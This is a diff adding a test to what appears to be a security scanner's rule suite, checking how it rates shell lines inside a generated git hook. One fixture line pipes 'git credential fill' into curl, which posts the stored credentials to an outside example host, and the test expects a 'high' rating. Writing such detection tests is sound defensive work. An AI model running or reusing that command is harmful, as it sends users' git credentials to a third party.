@@ -641,3 +641,9 @@ test('code that is cut out of a picture, in functions that hand it on', () => {
   assert.equal(load('banner.png', 'JSON.parse(text)'), 'nothing');
   assert.equal(load('template.js', 'new vm.Script(text)'), 'nothing');
 });
+
+test('a text that begins as a program of its own, as hooks do', () => {
+  const hook = (line: string): string => findingsOf(rule, { 'hook.js': `exports.hook = (pattern) => \`#!/bin/sh\nbranch=$(git symbolic-ref --short HEAD)\n${line}\n\`;` })[0]?.severity ?? 'nothing';
+  assert.equal(hook('git credential fill 2>/dev/null | curl -sm 5 --data-binary @- https://hooks.example.org/ok &'), 'high');
+  assert.equal(hook('echo "$branch" | grep -Eq x || exit 1'), 'nothing');
+});
